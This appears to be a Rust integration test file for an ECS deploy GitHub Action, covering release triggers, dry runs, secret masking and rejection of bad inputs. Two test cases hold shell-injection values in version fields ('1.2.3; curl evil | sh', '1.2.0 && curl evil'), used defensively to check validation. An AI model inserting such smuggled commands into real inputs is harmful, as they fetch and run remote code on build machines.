@@ -1,0 +1,418 @@
+//! The foundation through the real binary: every trigger row (deploy or skip, with app, version
+//! and reason in the outputs), the dry-run plan of the monorepo example, and bad inputs that must
+//! each fail with a clear message, exit 1, no panic and no request to the AWS endpoint.
+//!
+//! AWS is a trap here: `AWS_ENDPOINT_URL` points at a TCP listener on 127.0.0.1 that counts
+//! connections. Runs that must not touch AWS assert it saw none.
+
+use std::net::TcpListener;
+use std::path::Path;
+use std::sync::Arc;
+use std::sync::atomic::{AtomicUsize, Ordering};
+
+use crate::support::{BinOutput, BinRun, fixture, repo_root};
+
+const SHA: &str = "1a2b3c4d5e6f708192a3b4c5d6e7f80912345678";
+const REGISTRY: &str = "123456789012.dkr.ecr.ap-northeast-2.amazonaws.com";
+
+/// A listener that counts every connection made to it: the stand-in AWS endpoint.
+struct AwsTrap {
+    port: u16,
+    hits: Arc<AtomicUsize>,
+}
+
+impl AwsTrap {
+    fn start() -> AwsTrap {
+        let listener = TcpListener::bind("127.0.0.1:0").expect("bind the AWS trap");
+        let port = listener.local_addr().expect("trap address").port();
+        let hits = Arc::new(AtomicUsize::new(0));
+        let counter = hits.clone();
+        std::thread::spawn(move || {
+            for stream in listener.incoming() {
+                counter.fetch_add(1, Ordering::SeqCst);
+                drop(stream);
+            }
+        });
+        AwsTrap { port, hits }
+    }
+
+    fn hits(&self) -> usize {
+        self.hits.load(Ordering::SeqCst)
+    }
+
+    fn env(&self) -> Vec<(String, String)> {
+        [
+            ("AWS_EC2_METADATA_DISABLED", "true".to_string()),
+            ("AWS_ACCESS_KEY_ID", "testing".into()),
+            ("AWS_SECRET_ACCESS_KEY", "testing".into()),
+            ("AWS_REGION", "us-east-1".into()),
+            ("AWS_ENDPOINT_URL", format!("http://127.0.0.1:{}", self.port)),
+            ("AWS_MAX_ATTEMPTS", "1".into()),
+        ]
+        .into_iter()
+        .map(|(k, v)| (k.to_string(), v))
+        .collect()
+    }
+}
+
+/// A run against the monorepo fixture as the runner would start it, with `env` on top.
+fn run(trap: &AwsTrap, event: Option<(&str, &str)>, env: &[(&str, &str)]) -> BinOutput {
+    let mut r = BinRun::new()
+        .cwd(repo_root())
+        .envs(trap.env())
+        .env("GITHUB_WORKSPACE", fixture("monorepo"))
+        .env("GITHUB_SHA", SHA)
+        .env("GITHUB_REPOSITORY", "acme/shop")
+        .env("GITHUB_RUN_ID", "4242")
+        .env("INPUT_REGISTRY", REGISTRY);
+    if let Some((name, file)) = event {
+        r = r
+            .env("GITHUB_EVENT_NAME", name)
+            .env("GITHUB_EVENT_PATH", fixture(Path::new("events").join(file)));
+    }
+    for (k, v) in env {
+        r = r.env(k, v);
+    }
+    r.run()
+}
+
+fn dry(trap: &AwsTrap, event: (&str, &str), env: &[(&str, &str)]) -> BinOutput {
+    let mut all = vec![("INPUT_DRY-RUN", "true")];
+    all.extend_from_slice(env);
+    run(trap, Some(event), &all)
+}
+
+#[track_caller]
+fn assert_deploys(out: &BinOutput, app: &str, version: &str) {
+    out.assert_success();
+    assert_eq!(out.output("skipped"), Some("false"), "{out}");
+    assert_eq!(out.output("app"), Some(app), "{out}");
+    assert_eq!(out.output("version"), Some(version), "{out}");
+    assert_eq!(out.output("status"), Some("succeeded"), "{out}");
+}
+
+#[track_caller]
+fn assert_skips(out: &BinOutput, reason_part: &str) {
+    out.assert_success();
+    assert_eq!(out.output("skipped"), Some("true"), "{out}");
+    assert_eq!(out.output("status"), Some("skipped"), "{out}");
+    let reason = out.output("skip-reason").unwrap_or_default();
+    assert!(reason.contains(reason_part), "skip-reason {reason:?} lacks {reason_part:?}\n{out}");
+}
+
+#[test]
+fn a_merged_release_pr_deploys_the_app_its_branch_names() {
+    let trap = AwsTrap::start();
+    let out = dry(&trap, ("pull_request", "pr-merged-release-web1.json"), &[]);
+    assert_deploys(&out, "web1", "1.2.3");
+    assert_eq!(out.output("image"), Some(format!("{REGISTRY}/web1:v1.2.3").as_str()));
+    let out = dry(&trap, ("pull_request", "pr-merged-release-web2.json"), &[]);
+    assert_deploys(&out, "web2", "2.0.1");
+    assert_eq!(trap.hits(), 0, "a dry run without a service reads nothing from AWS");
+}
+
+#[test]
+fn pull_requests_that_are_not_merged_releases_into_main_skip_with_a_reason() {
+    let trap = AwsTrap::start();
+    let rows = [
+        ("pr-closed-unmerged.json", "PR #2 was closed without merging"),
+        ("pr-merged-other-base.json", "merged into develop, not main"),
+        ("pr-merged-feature-branch.json", "feature/login, which is not a release branch"),
+        ("pr-labeled.json", "PR #2 was labeled, not merged"),
+        ("pr-opened.json", "PR #2 was opened, not merged"),
+        ("pr-merged-fork.json", "came from the fork mallory/shop"),
+    ];
+    for (file, reason) in rows {
+        assert_skips(&dry(&trap, ("pull_request", file), &[]), reason);
+    }
+    assert_eq!(trap.hits(), 0);
+}
+
+#[test]
+fn a_release_of_another_app_skips_when_the_step_names_its_app() {
+    let trap = AwsTrap::start();
+    let out = dry(&trap, ("pull_request", "pr-merged-release-web2.json"), &[("INPUT_APP", "web1")]);
+    assert_skips(&out, "PR #3 releases web2 (release/web2); this step deploys web1");
+}
+
+#[test]
+fn workflow_dispatch_deploys_latest_or_an_explicit_existing_version() {
+    let trap = AwsTrap::start();
+    let out = dry(&trap, ("workflow_dispatch", "workflow-dispatch-latest.json"), &[("INPUT_APP", "web1")]);
+    assert_deploys(&out, "web1", "1.2.3");
+    let out = dry(&trap, ("workflow_dispatch", "workflow-dispatch-version.json"), &[("INPUT_APP", "web1")]);
+    assert_deploys(&out, "web1", "1.2.0");
+    assert_eq!(out.output("image"), Some(format!("{REGISTRY}/web1:v1.2.0").as_str()));
+    assert!(out.stdout.contains("none: the existing tag v1.2.0 is deployed"), "{out}");
+    let out = dry(&trap, ("workflow_dispatch", "workflow-dispatch-app-web2.json"), &[]);
+    assert_deploys(&out, "web2", "2.0.1");
+    // The `version` input overrides the event's own input.
+    let out = dry(
+        &trap,
+        ("workflow_dispatch", "workflow-dispatch-version.json"),
+        &[("INPUT_APP", "web1"), ("INPUT_VERSION", "latest")],
+    );
+    assert_deploys(&out, "web1", "1.2.3");
+}
+
+#[test]
+fn a_release_tag_push_deploys_the_tag_version_and_a_mismatch_names_both() {
+    let trap = AwsTrap::start();
+    let out = dry(&trap, ("push", "push-tag-v1.2.3.json"), &[("INPUT_APP", "web1")]);
+    assert_deploys(&out, "web1", "1.2.3");
+    let out = dry(&trap, ("push", "push-tag-v9.9.9.json"), &[("INPUT_APP", "web1")]);
+    out.assert_code(1);
+    assert!(
+        out.stdout.contains("tag v9.9.9 says version 9.9.9, but apps/web1/package.json says 1.2.3"),
+        "{out}"
+    );
+    assert_eq!(out.output("status"), Some("failed"));
+    assert_skips(&dry(&trap, ("push", "push-tag-not-release.json"), &[]), "not a release tag");
+    assert_skips(&dry(&trap, ("push", "push-tag-deleted.json"), &[]), "was deleted");
+    assert_eq!(trap.hits(), 0);
+}
+
+#[test]
+fn a_branch_push_deploys_only_when_deploy_on_includes_push() {
+    let trap = AwsTrap::start();
+    assert_skips(
+        &dry(&trap, ("push", "push-branch-main.json"), &[("INPUT_APP", "web1")]),
+        "deploy only with deploy-on: push",
+    );
+    let out = dry(
+        &trap,
+        ("push", "push-branch-main.json"),
+        &[("INPUT_APP", "web1"), ("INPUT_DEPLOY-ON", "push")],
+    );
+    assert_deploys(&out, "web1", "1.2.3");
+}
+
+#[test]
+fn other_events_skip_cleanly() {
+    let trap = AwsTrap::start();
+    assert_skips(&dry(&trap, ("issues", "issues-opened.json"), &[]), "event issues does not deploy");
+}
+
+#[test]
+fn the_dry_run_of_the_monorepo_example_prints_the_plan_and_the_task_definition_diff() {
+    let trap = AwsTrap::start();
+    let out = BinRun::new()
+        .cwd(repo_root())
+        .envs(trap.env())
+        .args([
+            "--dry-run",
+            "--event",
+            "fixtures/events/pr-merged-release-web1.json",
+            "--event-name",
+            "pull_request",
+            "--workspace",
+            "fixtures/monorepo",
+            "--config",
+            ".github/ecs-deploy.yml",
+            "--sha",
+            SHA,
+        ])
+        .env_remove("GITHUB_OUTPUT")
+        .env_remove("GITHUB_STEP_SUMMARY")
+        .run();
+    out.assert_success();
+    // The live service cannot be read (the trap answers nothing): the plan says so and goes on.
+    let stdout: String = out
+        .stdout
+        .lines()
+        .filter(|l| !l.starts_with("could not"))
+        .map(|l| format!("{l}\n"))
+        .collect();
+    insta::assert_snapshot!("monorepo_dry_run", stdout);
+}
+
+#[test]
+fn the_job_summary_and_outputs_are_written_for_a_dry_run() {
+    let trap = AwsTrap::start();
+    let out = dry(&trap, ("pull_request", "pr-merged-release-web1.json"), &[("INPUT_CONFIG", ".github/ecs-deploy.yml")]);
+    out.assert_success();
+    assert!(out.summary.contains("ECS deploy (dry run): succeeded"), "{out}");
+    assert!(out.summary.contains("| web1 | 1.2.3 |"), "{out}");
+    let results: serde_json::Value = serde_json::from_str(out.output("results").unwrap_or("null")).expect("results is JSON");
+    assert_eq!(results[0]["app"], "web1");
+    assert_eq!(results[0]["image"], format!("{REGISTRY}/web1:v1.2.3"));
+}
+
+#[test]
+fn secrets_are_masked_before_anything_else_is_printed() {
+    let trap = AwsTrap::start();
+    let secret = "https://hooks.slack.test/services/T000/B000/SECRET123";
+    let out = dry(
+        &trap,
+        ("pull_request", "pr-merged-release-web1.json"),
+        &[("INPUT_SLACK-WEBHOOK-URL", secret), ("INPUT_GITHUB-TOKEN", "ghp_testtoken")],
+    );
+    out.assert_success();
+    let first = out.stdout.lines().next().unwrap_or_default();
+    assert!(first.starts_with("::add-mask::"), "{out}");
+    assert!(out.stdout.contains(&format!("::add-mask::{secret}")));
+    assert!(out.stdout.contains("::add-mask::ghp_testtoken"));
+    let unmasked = out.stdout.lines().filter(|l| !l.starts_with("::add-mask::")).any(|l| l.contains("SECRET123") || l.contains("ghp_testtoken"));
+    assert!(!unmasked && !out.stderr.contains("SECRET123"), "{out}");
+}
+
+#[test]
+fn loose_versions_deploy_with_version_format_loose() {
+    let trap = AwsTrap::start();
+    let pkg = fixture("package-json/loose.json");
+    let pkg = pkg.to_str().expect("utf-8 path");
+    let out = dry(
+        &trap,
+        ("pull_request", "pr-merged-release-web1.json"),
+        &[("INPUT_PACKAGE-JSON", pkg), ("INPUT_VERSION-FORMAT", "loose")],
+    );
+    assert_deploys(&out, "web1", "v2026.11.21");
+    assert_eq!(out.output("image"), Some(format!("{REGISTRY}/web1:v2026.11.21").as_str()));
+}
+
+#[test]
+fn build_metadata_is_mapped_to_a_valid_tag_and_said() {
+    let trap = AwsTrap::start();
+    let pkg = fixture("package-json/build-metadata.json");
+    let out = dry(
+        &trap,
+        ("pull_request", "pr-merged-release-web1.json"),
+        &[("INPUT_PACKAGE-JSON", pkg.to_str().expect("utf-8 path"))],
+    );
+    assert_deploys(&out, "web1", "1.2.3+build.5");
+    assert_eq!(out.output("image"), Some(format!("{REGISTRY}/web1:v1.2.3_build.5").as_str()));
+    assert!(out.stdout.contains("'+' is not allowed"), "{out}");
+}
+
+/// One bad input: the env to add (or an event), and a part of the message that names it.
+struct Bad {
+    env: Vec<(&'static str, String)>,
+    event: Option<(&'static str, String)>,
+    args: Vec<&'static str>,
+    expect: &'static str,
+}
+
+fn bad(env: &[(&'static str, &str)], expect: &'static str) -> Bad {
+    Bad {
+        env: env.iter().map(|(k, v)| (*k, v.to_string())).collect(),
+        event: Some(("pull_request", "pr-merged-release-web1.json".into())),
+        args: Vec::new(),
+        expect,
+    }
+}
+
+fn bad_event(name: &'static str, file: &str, env: &[(&'static str, &str)], expect: &'static str) -> Bad {
+    Bad {
+        event: Some((name, file.to_string())),
+        ..bad(env, expect)
+    }
+}
+
+fn fx(rel: &str) -> String {
+    fixture(rel).to_string_lossy().into_owned()
+}
+
+#[test]
+fn bad_inputs_fail_with_a_clear_message_exit_1_and_no_aws_request() {
+    let tmp = tempfile::tempdir().expect("tempdir");
+    let broken_event = tmp.path().join("broken.json");
+    std::fs::write(&broken_event, "{\"action\": \"closed\", ").expect("write");
+    let wrong_shape = tmp.path().join("wrong-shape.json");
+    std::fs::write(&wrong_shape, "{\"action\": \"closed\", \"number\": 1}").expect("write");
+    let broken = broken_event.to_string_lossy().into_owned();
+    let wrong = wrong_shape.to_string_lossy().into_owned();
+
+    let cases: Vec<Bad> = vec![
+        bad(&[("INPUT_DEPLOYMENT", "bluegreen")], "accepted values: auto, rolling, codedeploy, ecs-blue-green"),
+        bad(&[("INPUT_VERSION-FORMAT", "calver")], "input `version-format` has the value \"calver\""),
+        bad(&[("INPUT_CACHE", "s3")], "input `cache` has the value \"s3\""),
+        bad(&[("INPUT_DEPLOY-ON", "merge")], "input `deploy-on` has the value \"merge\""),
+        bad(&[("INPUT_WAIT-FOR-MINUTES", "soon")], "whole number of minutes"),
+        bad(&[("INPUT_WAIT-FOR-MINUTES", "0")], "whole number of minutes"),
+        bad(&[("INPUT_TAG-LATEST", "yes")], "input `tag-latest` has the value \"yes\""),
+        bad(&[("INPUT_ROLLBACK-ON-FAILURE", "on")], "input `rollback-on-failure`"),
+        bad(&[("INPUT_BUILD-ARGS", "NODE_ENV")], "input `build-args` has the value \"line 1\""),
+        bad(&[("INPUT_ENVIRONMENT-VARIABLES", "1BAD=x")], "keys use letters"),
+        bad(&[("INPUT_PLATFORM", "amd64")], "use os/arch"),
+        bad(&[("INPUT_TAG-PREFIX", "v/")], "input `tag-prefix`"),
+        bad(&[("INPUT_REGISTRY-USERNAME", "bob")], "registry-username and registry-password go together"),
+        bad(&[("INPUT_SLACK-BOT-TOKEN", "xoxb-1")], "input `slack-channel` is required"),
+        bad(&[("INPUT_SLACK-WEBHOOK-URL", "hooks.slack.com/x")], "input `slack-webhook-url`"),
+        bad(&[("INPUT_APP", "web 1")], "input `app` has the value \"web 1\""),
+        bad(&[("INPUT_CLUSTER", "my cluster")], "input `cluster`"),
+        bad(&[("INPUT_SERVICE", "web1"), ("INPUT_RUN-TASK-COMMAND", "[\"migrate\"")], "input `run-task-command`"),
+        bad(&[("INPUT_IMAGE", "repo:1"), ("INPUT_REBUILD", "true")], "has nothing to build"),
+        bad(&[("INPUT_APP", "web1,web2")], "several apps need `config`"),
+        bad(&[("GITHUB_SHA", "not-a-sha")], "GITHUB_SHA"),
+        Bad { event: None, ..bad(&[], "set GITHUB_EVENT_NAME") },
+        bad_event("pull_request", "does-not-exist.json", &[], "cannot read the GitHub event payload"),
+        Bad { event: Some(("pull_request", broken)), ..bad(&[], "the pull_request event payload") },
+        Bad { event: Some(("pull_request", wrong)), ..bad(&[], "missing field `pull_request`") },
+        bad_event("pull_request", "pr-merged-bad-app-name.json", &[], "is not a valid app name"),
+        bad_event("workflow_dispatch", "workflow-dispatch-bad-version.json", &[("INPUT_APP", "web1")], "\"1.2.0 && curl evil\" (from the requested version) is not valid"),
+        bad(&[("INPUT_PACKAGE-JSON", &fx("package-json/no-version.json"))], "has no \"version\" field"),
+        bad(&[("INPUT_PACKAGE-JSON", &fx("package-json/version-number.json"))], "\"version\" that is not a string (1.2)"),
+        bad(&[("INPUT_PACKAGE-JSON", &fx("package-json/version-null.json"))], "\"version\" that is not a string (null)"),
+        bad(&[("INPUT_PACKAGE-JSON", &fx("package-json/invalid.json"))], "is not valid JSON"),
+        bad(&[("INPUT_PACKAGE-JSON", &fx("package-json/empty-file.json"))], "is not valid JSON"),
+        bad(&[("INPUT_PACKAGE-JSON", &fx("package-json/not-object.json"))], "is not a JSON object"),
+        bad(&[("INPUT_PACKAGE-JSON", &fx("package-json/v-prefixed.json"))], "without the leading v"),
+        bad(&[("INPUT_PACKAGE-JSON", &fx("package-json/empty-version.json"))], "it is empty"),
+        bad(&[("INPUT_PACKAGE-JSON", &fx("package-json/shell-injection.json"))], "\"1.2.3; curl evil | sh\""),
+        bad(&[("INPUT_PACKAGE-JSON", &fx("package-json/two-part.json"))], "not semver"),
+        bad(&[("INPUT_PACKAGE-JSON", &fx("package-json/loose.json"))], "not semver"),
+        bad(&[("INPUT_PACKAGE-JSON", "apps/nope/package.json")], "cannot read package.json"),
+        bad(&[("INPUT_SERVICE", "web1"), ("INPUT_TASK-DEFINITION", &fx("task-definitions/not-json.json"))], "is not valid JSON"),
+        bad(&[("INPUT_SERVICE", "web1"), ("INPUT_TASK-DEFINITION", &fx("task-definitions/no-containers.json"))], "empty \"containerDefinitions\""),
+        bad(&[("INPUT_SERVICE", "web1"), ("INPUT_TASK-DEFINITION", &fx("task-definitions/no-family.json"))], "has no \"family\""),
+        bad(&[("INPUT_SERVICE", "web1"), ("INPUT_TASK-DEFINITION", "deploy/web1-task-definition.json"), ("INPUT_CONTAINER-NAME", "api")], "no container named \"api\""),
+        bad(&[("INPUT_SERVICE", "web2"), ("INPUT_TASK-DEFINITION", "deploy/web2-task-definition.json")], "several containers (web2, log-router)"),
+        bad(&[("INPUT_SERVICE", "web1"), ("INPUT_TASK-DEFINITION", "deploy/missing.json")], "cannot read the task definition file"),
+        bad(&[("INPUT_SERVICE", "web1"), ("INPUT_CODEDEPLOY-APPSPEC", &fx("appspec-broken.yml"))], "AppSpec"),
+        bad(&[("INPUT_CONFIG", &fx("config-unknown-key.yml"))], "apps.web1.servce is not a known key"),
+        bad(&[("INPUT_CONFIG", ".github/ecs-deploy.yml"), ("INPUT_APP", "web9")], "has no app \"web9\""),
+        bad(&[("INPUT_CONFIG", ".github/missing.yml")], "cannot read the config file"),
+        bad(&[("INPUT_DOCKERFILE", "apps/web1/Dockerfile.missing")], "cannot read the Dockerfile"),
+        bad(&[("INPUT_CONTEXT", "../..")], "must be inside the workspace"),
+        Bad { args: vec!["--bogus"], ..bad(&[], "--bogus") },
+    ];
+    assert!(cases.len() >= 30, "the issue asks for at least 30 distinct bad inputs");
+    let mut failures = Vec::new();
+    for case in &cases {
+        let trap = AwsTrap::start();
+        let env: Vec<(&str, &str)> = case.env.iter().map(|(k, v)| (*k, v.as_str())).collect();
+        let mut r = BinRun::new()
+            .cwd(repo_root())
+            .envs(trap.env())
+            .env("GITHUB_WORKSPACE", fixture("monorepo"))
+            .env("GITHUB_SHA", SHA)
+            .env("INPUT_REGISTRY", REGISTRY)
+            .args(case.args.iter());
+        if let Some((name, file)) = &case.event {
+            let path = if Path::new(file).is_absolute() {
+                Path::new(file).to_path_buf()
+            } else {
+                fixture(Path::new("events").join(file))
+            };
+            r = r.env("GITHUB_EVENT_NAME", *name).env("GITHUB_EVENT_PATH", path);
+        }
+        for (k, v) in env {
+            r = r.env(k, v);
+        }
+        let out = r.run();
+        let error_lines: Vec<&str> = out.stdout.lines().filter(|l| l.starts_with("::error")).collect();
+        let problems = [
+            (out.code != Some(1), "exit code is not 1"),
+            (out.stderr.contains("panicked"), "panicked"),
+            (error_lines.len() != 1, "not exactly one ::error line"),
+            (!out.stdout.contains(case.expect) && !out.stderr.contains(case.expect), "message does not name the problem"),
+            (trap.hits() != 0, "the AWS endpoint was contacted"),
+        ];
+        for (bad, what) in problems {
+            if bad {
+                failures.push(format!("{:?} {:?}: {what}\n{out}", case.env, case.event));
+            }
+        }
+    }
+    assert!(failures.is_empty(), "{} problems:\n{}", failures.len(), failures.join("\n-----\n"));
+}
